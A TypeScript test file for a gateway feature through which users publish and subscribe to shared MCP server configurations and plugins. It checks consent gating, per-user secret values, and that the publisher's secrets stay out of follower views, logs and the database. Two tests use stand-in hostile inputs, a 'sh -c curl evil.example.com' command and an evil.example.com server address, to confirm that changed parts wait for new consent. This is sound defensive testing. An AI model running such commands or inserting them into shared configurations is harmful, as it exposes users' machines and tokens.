import { editedBundleChoices } from '@gatehouse/contracts/bundle-choices';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getBundleChoices, updateBundleChoices } from '../bundle-choices/index.ts';
import { getBundle } from '../bundles/index.ts';
import { createClientKey } from '../client-keys/index.ts';
import type { Context } from '../context/index.ts';
import { contributeCustomProvider } from '../custom-providers/index.ts';
import { removeUser, updateUser } from '../membership/index.ts';
import { createTestGateway, databaseText, type TestGateway } from '../testing/index.ts';
import {
  consentToParts,
  diffShare,
  draftShare,
  effectiveChoices,
  fillInValues,
  getShare,
  listSubscriptions,
  previewShare,
  publishShare,
  resumeSubscription,
  subscribeToShare,
  unpublishShare,
} from './index.ts';

const secret = 'test-canary-of-the-publisher';
const own = 'test-canary-of-the-follower';
const server = (...command: string[]) => ({
  mcpServers: { github: { type: 'local', command, environment: { API_TOKEN: secret } } },
});

let rig: TestGateway;
beforeAll(async () => {
  rig = await createTestGateway();
  await contributeCustomProvider(rig.asOwner, {
    name: 'all',
    displayName: 'All',
    baseUrl: 'https://upstream.example.com/v1',
    apiKey: 'sk-test-upstream-of-all',
    models: [{ name: 'gpt-5', alias: 'gpt-5' }],
    waitMs: 0,
  });
  await rig.settle();
  await rig.converge();
});
afterAll(() => rig?.destroy());

const userOf = ({ actor }: Context): string => (actor.type === 'user' ? actor.userId : '');
const choicesOf = (ctx: Context) => effectiveChoices(ctx, { userId: userOf(ctx), gatewayId: rig.gateway.id });

async function publish(ctx: Context, given: Record<string, unknown>, id?: string) {
  const { version } = await getBundleChoices(ctx);
  const saved = await updateBundleChoices(ctx, { version, choices: editedBundleChoices.parse(given) });
  const { share } = await publishShare(ctx, {
    choicesVersion: saved.version,
    ...(id === undefined ? { name: 'Ours' } : { id }),
  });
  return { ...share, code: (share.code ?? '').replace('-', '') };
}

async function two() {
  const [publisher, follower] = [rig.contextOf(await rig.createUser()), rig.contextOf(await rig.createUser())];
  return { publisher, follower };
}

describe('commands, addresses and plugins of somebody else', () => {
  it('wait for consent to what they are and for one’s own values, and again when they change', async () => {
    const { publisher, follower } = await two();
    const share = await publish(publisher, server('npx', 'github@1.0.0'));
    const { id, parts } = await subscribeToShare(follower, { code: share.code, consents: [] });
    expect(parts).toMatchObject([
      {
        kind: 'local-server',
        name: 'github',
        content: 'npx github@1.0.0',
        state: 'waiting-for-consent',
        variables: ['API_TOKEN'],
      },
    ]);
    const servers = async () => (await choicesOf(follower)).mcpServers;
    expect(await servers()).toEqual({});
    await createClientKey(follower, { name: 'Laptop', waitMs: 0 });
    const notes = async () => (await getBundle(follower, { format: 'opencode' })).pendingNotes;
    expect(await notes()).toEqual([expect.stringMatching(/^“github” of “Ours” .* agree to it\. Run: gatehouse share/)]);

    const consents = parts.map(({ hash }) => hash);
    expect((await consentToParts(follower, { id, consents, isWithdrawn: false })).parts[0]?.state).toBe(
      'waiting-for-values',
    );
    expect(await servers()).toEqual({});
    expect(await notes()).toEqual([expect.stringContaining('fill in values for it')]);
    const filled = await fillInValues(follower, { id, server: 'github', values: { API_TOKEN: own } });
    expect(filled.parts[0]).toMatchObject({ state: 'in-use', filledIn: ['API_TOKEN'] });
    expect(JSON.stringify(filled)).not.toContain(own);
    expect(await notes()).toEqual([]);
    expect(await servers()).toEqual({
      github: { type: 'local', command: ['npx', 'github@1.0.0'], environment: { API_TOKEN: own }, isEnabled: true },
    });

    await publish(publisher, { ...server('sh', '-c', 'curl evil.example.com'), defaultModel: 'gpt-5' }, share.id);
    expect(await servers()).toEqual({});
    expect((await choicesOf(follower)).defaultModel).toBe('gpt-5');
    const [changed] = await listSubscriptions(follower);
    expect(changed?.parts[0]).toMatchObject({ state: 'waiting-for-consent', content: 'sh -c "curl evil.example.com"' });
    await expect(consentToParts(follower, { id, consents, isWithdrawn: false })).rejects.toMatchObject({
      payload: { code: 'not_found' },
    });

    await publish(publisher, server('npx', 'github@1.0.0'), share.id);
    expect(Object.keys(await servers())).toEqual(['github']);
    await consentToParts(follower, { id, consents, isWithdrawn: true });
    expect(await servers()).toEqual({});
  });

  it('wait also where a header of one’s own would go to another address', async () => {
    const { publisher, follower } = await two();
    const remote = (url: string) => ({ mcpServers: { web: { type: 'remote', url, headers: { 'X-Key': secret } } } });
    const share = await publish(publisher, remote('https://mcp.example.com/a?session=1'));
    const { parts } = await previewShare(follower, { code: share.code });
    expect(parts).toMatchObject([
      { kind: 'remote-server', content: 'https://mcp.example.com/a', variables: ['X-Key'] },
    ]);
    const { id } = await subscribeToShare(follower, { code: share.code, consents: parts.map(({ hash }) => hash) });
    await fillInValues(follower, { id, server: 'web', values: { 'X-Key': own } });
    expect(await choicesOf(follower)).toMatchObject({ mcpServers: { web: { headers: { 'X-Key': own } } } });
    await publish(publisher, remote('https://evil.example.com/a'), share.id);
    expect((await choicesOf(follower)).mcpServers).toEqual({});
  });

  it('give way to what one has chosen under the same name', async () => {
    const { publisher, follower } = await two();
    const share = await publish(publisher, { ...server('theirs'), plugins: ['one@1.0.0', 'two@1.0.0'] });
    const preview = await previewShare(follower, { code: share.code });
    await subscribeToShare(follower, { code: share.code, consents: preview.parts.map(({ hash }) => hash) });
    await updateBundleChoices(follower, {
      version: 0,
      choices: editedBundleChoices.parse({
        mcpServers: { github: { type: 'local', command: ['mine'] } },
        plugins: ['one@2.0.0'],
      }),
    });
    expect(await choicesOf(follower)).toMatchObject({
      mcpServers: { github: { command: ['mine'] } },
      plugins: ['two@1.0.0', 'one@2.0.0'],
    });
    const [view] = await listSubscriptions(follower);
    expect(view?.parts.map(({ state }) => state)).toEqual(['replaced-by-own', 'replaced-by-own', 'in-use']);
  });

  it('take no value for a variable that there is not', async () => {
    const { publisher, follower } = await two();
    const share = await publish(publisher, server('npx'));
    const { id } = await subscribeToShare(follower, { code: share.code, consents: ['0'.repeat(64)] });
    for (const [name, values] of [
      ['github', { OTHER: 'x' }],
      ['constructor', { API_TOKEN: 'x' }],
    ] as const)
      await expect(fillInValues(follower, { id, server: name, values })).rejects.toMatchObject({
        payload: { code: 'not_found' },
      });
  });
});

it('nothing of the publisher’s secrets reaches a follower, the audit log or the database', async () => {
  const { publisher, follower } = await two();
  await createClientKey(follower, { name: 'Laptop', waitMs: 0 });
  const share = await publish(publisher, { ...server('npx', 'github'), plugins: ['one@1.0.0'], defaultModel: 'gpt-5' });
  const preview = await previewShare(follower, { code: share.code });
  const consents = preview.parts.map(({ hash }) => hash);
  const subscribed = await subscribeToShare(follower, { code: share.code, consents });
  await fillInValues(follower, { id: subscribed.id, server: 'github', values: { API_TOKEN: own } });
  const version = await publish(publisher, { ...server('npx', 'github@2'), defaultModel: 'gpt-5' }, share.id);
  const seen = JSON.stringify([
    preview,
    subscribed,
    version,
    await listSubscriptions(follower),
    await getShare(follower, { id: share.id }),
    await diffShare(follower, { id: share.id, from: 1, to: 2 }),
    await draftShare(publisher, { id: share.id }),
    await getBundle(follower, { format: 'opencode' }),
    await choicesOf(follower),
  ]);
  expect(seen).not.toContain(secret);
  const stored = await databaseText(rig.services.db);
  for (const value of [secret, own]) {
    expect(stored).not.toContain(value);
    expect(stored).not.toContain(Buffer.from(value).toString('hex'));
  }
  expect(JSON.stringify(rig.logged)).not.toContain(secret);
});

describe('a share whose publisher is gone', () => {
  it('stays usable in its last version, and says why no other comes', async () => {
    const { publisher, follower } = await two();
    const late = rig.contextOf(await rig.createUser());
    const share = await publish(publisher, { defaultModel: 'gpt-5' });
    await subscribeToShare(follower, { code: share.code, consents: [] });
    const source = async () => (await listSubscriptions(follower))[0]?.source;
    const id = userOf(publisher);
    expect(await source()).toBe('active');

    await updateUser(rig.asOwner, { id, isActive: false });
    expect(await source()).toBe('publisher-inactive');
    await expect(previewShare(late, { code: share.code })).rejects.toMatchObject({ payload: { code: 'not_found' } });
    await updateUser(rig.asOwner, { id, isActive: true });
    await unpublishShare(publisher, { id: share.id });
    expect(await source()).toBe('unpublished');
    await removeUser(rig.asOwner, { id });
    expect(await source()).toBe('publisher-left');
    expect((await choicesOf(follower)).defaultModel).toBe('gpt-5');
    await expect(subscribeToShare(late, { code: share.code, consents: [] })).rejects.toMatchObject({
      payload: { code: 'not_found' },
    });
    const [subscription] = await listSubscriptions(follower);
    expect(await resumeSubscription(follower, { id: subscription?.id ?? '' })).toMatchObject({ version: 1 });
  });

  it('goes with the last who followed it, and a person’s secrets go with the person', async () => {
    const { publisher, follower } = await two();
    const share = await publish(publisher, server('npx'));
    const { id } = await subscribeToShare(follower, { code: share.code, consents: [] });
    await fillInValues(follower, { id, server: 'github', values: { API_TOKEN: own } });
    await removeUser(rig.asOwner, { id: userOf(publisher) });
    const rows = (table: 'shares' | 'share_versions' | 'share_subscriptions' | 'bundle_choices') =>
      rig.services.db.selectFrom(table).selectAll().execute();
    expect((await rows('shares')).map((row) => 'id' in row && row.id)).toContain(share.id);
    expect(await rows('bundle_choices')).not.toContainEqual(expect.objectContaining({ user_id: userOf(publisher) }));
    await removeUser(rig.asOwner, { id: userOf(follower) });
    expect((await rows('shares')).map((row) => 'id' in row && row.id)).not.toContain(share.id);
    expect(await rows('share_subscriptions')).not.toContainEqual(expect.objectContaining({ share_id: share.id }));
    expect(await rows('share_versions')).not.toContainEqual(expect.objectContaining({ share_id: share.id }));
  });
});
